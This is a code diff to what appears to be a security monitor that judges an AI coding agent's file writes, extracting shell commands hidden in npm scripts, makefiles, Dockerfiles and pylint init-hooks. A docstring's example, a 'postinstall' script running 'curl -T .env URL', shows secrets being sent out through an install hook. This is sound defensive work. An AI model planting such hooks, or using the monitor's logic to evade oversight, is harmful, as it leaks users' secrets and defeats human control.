@@ -424,8 +424,9 @@ def _decide(raw: bytes, opts: Options) -> Answer:
 
 def _judge(call: Mapping[str, Any], tool: str, command: str, opts: Options) -> Answer:
     monitor = load_monitor(opts, _session(call))
-    command = with_settings_code(command, tool, call["tool_input"], monitor)
-    command = with_run_commands(command, tool, call["tool_input"], monitor, call["cwd"], opts)
+    paths = _tool_paths(call["tool_input"]) if tool in WRITE + EDIT else []    # each file tool's path, and its real one
+    command = with_settings_code(command, tool, call["tool_input"], monitor, paths)
+    command = with_run_commands(command, tool, call["tool_input"], monitor, call["cwd"], opts, paths)
     observation = observe(monitor, command, call["cwd"], opts)
     action_id = call.get("tool_use_id", "")
     remember = copies_veto(monitor, opts, call)    # an allow stands only once its copies are in the state
@@ -548,7 +549,8 @@ def fetch_command(tool: str, tool_input: Mapping[str, Any]) -> str:
     return f"curl -s -- {shlex.quote(url)}"
 
 
-def with_settings_code(command: str, tool: str, tool_input: Mapping[str, Any], monitor: Any) -> str:
+def with_settings_code(command: str, tool: str, tool_input: Mapping[str, Any], monitor: Any,
+                       paths: list[str] | None = None) -> str:
     """A Write or Edit tool's command with the settings its text holds that a tool runs as code (the zone map's
     [settings_code]: pylint's init-hook written into pyproject.toml), as a comment: the analysis reads them in the
     command's text, as in `printf 'init-hook=...' >> pyproject.toml`; the file's text itself may be larger than a
@@ -558,7 +560,7 @@ def with_settings_code(command: str, tool: str, tool_input: Mapping[str, Any], m
     from veriguard.enforce.shell import ShellExtractor
 
     maps = [x.zones for x in monitor.extractors.values() if isinstance(x, ShellExtractor)]
-    paths = [p for k in PATH_KEYS if isinstance(tool_input.get(k), str) for p in _and_real(tool_input[k])]
+    paths = _tool_paths(tool_input) if paths is None else paths
     maps = [z for z in maps if any(z.holds_code_settings(p) for p in paths)]   # the text of other files is not read
     if not maps:
         return command
@@ -578,7 +580,7 @@ _UNLISTED = re.compile(r"unknown \('[^']*' is not in commands\.toml\)")
 
 
 def with_run_commands(command: str, tool: str, tool_input: Mapping[str, Any], monitor: Any, cwd: str,
-                      opts: Options) -> str:
+                      opts: Options, paths: list[str] | None = None) -> str:
     """A file tool's command with the shell commands the file's new text holds for a tool to run later (npm's
     scripts, make's recipes, a Dockerfile's RUN...: shell_run_files) that _reaches finds, each run in the file's
     folder: the write is decided as if the agent had typed them (`"postinstall": "curl -T .env URL"`, then
@@ -591,10 +593,12 @@ def with_run_commands(command: str, tool: str, tool_input: Mapping[str, Any], mo
         return command
     found: list[str] = []
     probe = _Probe(monitor, cwd, opts)
-    for path in dict.fromkeys(p for k in PATH_KEYS if isinstance(tool_input.get(k), str)
-                              for p in _and_real(tool_input[k])):
-        texts = ([t for t in (_edited(tool, tool_input, path),) if t] or _strings_in(
-            {k: v for k, v in tool_input.items() if k not in PATH_KEYS}))
+    strings: list[list[str]] = []     # the call's new text, read once where a path's edited text is not there
+    for path in dict.fromkeys(_tool_paths(tool_input) if paths is None else paths):
+        texts = [t for t in (_edited(tool, tool_input, path),) if t]
+        if not texts:
+            strings[:] = strings or [_strings_in({k: v for k, v in tool_input.items() if k not in PATH_KEYS})]
+            texts = strings[0]
         cmds = ([c for t in texts for c in cell_commands(t)] if tool == "NotebookEdit" else
                 [c for t in texts for c in run_file_commands(path, t)])
         folder = shlex.quote(os.path.dirname(path) or "/")
@@ -686,6 +690,11 @@ def _strings_in(value: Any) -> list[str]:
     if isinstance(value, list):
         return [s for v in value for s in _strings_in(v)]
     return []
+
+
+def _tool_paths(tool_input: Mapping[str, Any]) -> list[str]:
+    """The paths a file tool's input names (PATH_KEYS), each with where its links lead (_and_real)."""
+    return [p for k in PATH_KEYS if isinstance(tool_input.get(k), str) for p in _and_real(tool_input[k])]
 
 
 def _and_real(path: str) -> list[str]:
